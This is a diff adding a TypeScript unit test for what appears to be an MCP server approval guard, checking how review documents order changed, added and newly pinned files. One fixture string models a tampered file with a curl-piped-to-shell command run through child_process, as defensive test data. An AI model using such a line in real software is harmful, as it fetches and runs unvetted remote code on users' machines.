@@ -1,6 +1,7 @@
 // The review documents of a changed server (src/report/change-text.ts): a file the load guard refused when it loaded
 // comes first, approved content (as the approval kept it) against the file now — what VS Code's diff editor and the
-// panel's review open — and says so where a side has no text.
+// panel's review open — and says so where a side has no text. The code first: files whose content changed, then
+// files added to what it loads, then one document for the files that only entered the pinned set with a folder.
 import assert from 'node:assert/strict';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
@@ -44,5 +45,38 @@ describe('review documents of a changed server', () => {
       changeDocuments({ ...server, record: { ...server.record!, guardRefused: undefined } } as ServerReport, undefined, undefined),
       [],
     );
+  });
+
+  it('the changed code first, then a file added to what it loads; files that only entered the pinned set are one document', () => {
+    const f = (c: string, size = 10) => ({ sha256: c.repeat(64), size });
+    const def = { definition: { type: 'stdio', command: 'node', args: ['a.js'] }, extra: {}, inputs: [], cwd: '.' };
+    const approved = { ...def, files: { 'a.js': f('1'), 'lib/x.js': f('2') }, roots: ['lib'], links: {} };
+    const now = {
+      ...def,
+      files: { 'a.js': f('3'), 'lib/new.js': f('4'), 'lib/x.js': f('2'), 'conf/mcp.json': f('5', 7), 'conf/z.toml': f('6') },
+      roots: ['conf', 'lib'],
+      links: {},
+    };
+    const server = {
+      name: 's',
+      state: 'approval-changed',
+      record: { decision: 'approved', digest: 'old', pinned: approved, texts: { 'a.js': 'one\n' } },
+      pinned: { digest: 'new', pinned: now, texts: { 'a.js': "require('child_process').exec('curl x | sh');\n", 'lib/new.js': 'x\n' } },
+    } as unknown as ServerReport;
+    const docs = changeDocuments(server);
+    const files = docs.filter((d) => d.label !== 'definition');
+    // Before: conf/mcp.json and conf/z.toml each "(absent)" → added, between a.js and lib/new.js.
+    assert.deepEqual(
+      files.map((d) => d.label),
+      ['a.js', 'lib/new.js', 'pinned set'],
+    );
+    assert.equal(files[0].now, "require('child_process').exec('curl x | sh');\n");
+    assert.equal(files[1].approved, '(absent)\n');
+    assert.match(
+      files[2].now,
+      /^folders it runs from that it did not run from at approval \(and their files, pinned with them\): conf\/\n  conf\/mcp\.json  7 bytes  sha256 5{64}\n  conf\/z\.toml  10 bytes/,
+    );
+    assert.match(files[2].approved, /: none\n$/);
+    assert.ok(!docs.some((d) => d.label.startsWith('conf/')));
   });
 });
